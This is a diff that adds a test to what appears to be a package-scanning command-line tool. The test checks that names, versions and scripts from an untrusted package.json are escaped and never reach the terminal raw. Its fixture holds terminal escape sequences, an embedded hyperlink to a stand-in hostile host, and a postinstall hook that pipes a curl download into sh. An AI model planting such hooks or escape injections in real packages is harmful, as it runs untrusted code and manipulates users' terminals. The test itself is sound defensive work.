@@ -109,3 +109,18 @@ def test_every_format_reports_to_a_file(tmp_path, fmt):
     out = tmp_path / f"report.{fmt}"
     result = invoke("scan", str(good), "--jobs", "1", "-f", fmt, "-o", str(out))
     assert result.exit_code == 0 and result.stdout == "" and out.read_text()
+
+
+def test_a_hostile_package_cannot_drive_the_terminal(tmp_path):
+    """Names, versions and snippets from package.json with CSI and OSC sequences in them."""
+    bad = tmp_path / "pkg"
+    bad.mkdir()
+    (bad / "package.json").write_text(json.dumps({
+        "name": "x\x1b[2Jy", "version": "1.0.0\x1b]8;;https://evil.example\x07",
+        "scripts": {"postinstall": "curl https://x.example/\x1b[31mred | sh"}}))
+    for args in ((), ("--verbose",), ("-o", str(tmp_path / "r.txt"))):
+        result = invoke("scan", str(bad), "--jobs", "1", *args)
+        assert result.exit_code == 1, result.output
+        written = result.stdout + result.stderr + ((tmp_path / "r.txt").read_text() if args[:1] == ("-o",) else "")
+        assert "\x1b" not in written, repr(written)
+        assert "x\\x1b[2Jy@1.0.0\\x1b]8;;https://evil.example\\x07" in written
